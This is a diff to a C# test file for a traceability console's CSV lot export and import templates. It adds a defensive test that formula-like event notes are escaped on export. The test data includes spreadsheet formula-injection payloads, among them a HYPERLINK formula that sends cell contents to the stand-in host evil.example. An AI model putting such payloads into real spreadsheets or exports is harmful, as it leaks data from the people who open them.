@@ -153,13 +153,47 @@ public sealed class ImportTests(ConsoleAppFixture fixture) : IClassFixture<Conso
     }
 
     [Fact]
+    public async Task The_lot_export_escapes_formula_like_notes_and_still_reimports_to_the_same_events()
+    {
+        var producer = await App.NewProducerAsync();
+        var browser = await producer.SignInAsync();
+        var (gtin14, lot) = await ConsoleFlowTests.SetUpLotAsync(producer, browser);
+        string[] notes = ["=1+1", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")", "+cmd", "-2+3", "@SUM(A1)", "'=quoted", "bình thường"];
+        for (var i = 0; i < notes.Length; i++)
+        {
+            var response = await browser.SubmitAsync("/console/events/new", "/console/events/new", new()
+            {
+                ["lot"] = $"{gtin14}:{lot}", ["step"] = "shipping", ["location"] = "SC-HAMYEN", ["quantity"] = "1", ["uom"] = "KGM",
+                ["time"] = $"2026-11-21T1{i}:00", ["note"] = notes[i],
+            });
+            Assert.Equal(HttpStatusCode.Redirect, response.StatusCode);
+        }
+
+        var export = await browser.Client.GetByteArrayAsync($"/console/lots/{gtin14}/{lot}/export.csv");
+        var rows = MiniExcelLibs.MiniExcel.Query(new MemoryStream(export), useHeaderRow: true, excelType: MiniExcelLibs.ExcelType.CSV)
+            .Cast<IDictionary<string, object?>>().ToList();
+        Assert.Equal(notes.Length, rows.Count);
+        string[] expected = ["'=1+1", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")", "'+cmd", "'-2+3", "'@SUM(A1)", "''=quoted", "bình thường"];
+        Assert.Equivalent(expected, rows.Select(r => (string)r["note"]!).ToList(), strict: true);
+        Assert.All(rows.SelectMany(r => r.Values).OfType<string>(), v => Assert.False(v.Length > 0 && "=+-@\t\r".Contains(v[0]), $"'{v}' starts a formula"));
+
+        var job = await UploadAsync(browser, export, "xuat.csv");
+        Assert.Equal("ready", (string)(await WaitAsync(browser, job))["phase"]!);
+        var done = await CommitAsync(browser, job);
+        Assert.Equal(0, (int)done["stored"]!);
+        Assert.Equal(notes.Length, (int)done["duplicates"]!);
+    }
+
+    [Fact]
     public async Task The_templates_explain_the_columns_in_Vietnamese_and_read_back()
     {
         var browser = await (await App.NewProducerAsync()).SignInAsync();
         var xlsx = await browser.Client.GetByteArrayAsync("/console/import/template.xlsx");
-        var (rows, error) = new ImportReader().Read(xlsx);
+        var reader = new ImportReader(Microsoft.Extensions.Options.Options.Create(new ImportOptions()));
+        var (count, error) = reader.Check(xlsx);
         Assert.Null(error);
-        Assert.Equal(3, rows.Count);
+        Assert.Equal(3, count);
+        var rows = reader.Rows(xlsx).ToList();
         Assert.Equal("thu hoạch", rows[0].BizStep);
         Assert.Equal("2026-11-20T07:30", rows[0].EventTime);
         var help = MiniExcelLibs.MiniExcel.Query(new MemoryStream(xlsx), useHeaderRow: true, sheetName: "HuongDan").Cast<IDictionary<string, object>>().ToList();
@@ -167,6 +201,6 @@ public sealed class ImportTests(ConsoleAppFixture fixture) : IClassFixture<Conso
         Assert.Contains("Công đoạn", (string)help[2]["Ý nghĩa"]);
 
         var csv = await browser.Client.GetByteArrayAsync("/console/import/template.csv");
-        Assert.Equal(3, new ImportReader().Read(csv).Rows.Count);
+        Assert.Equal((3, (string?)null), reader.Check(csv));
     }
 }
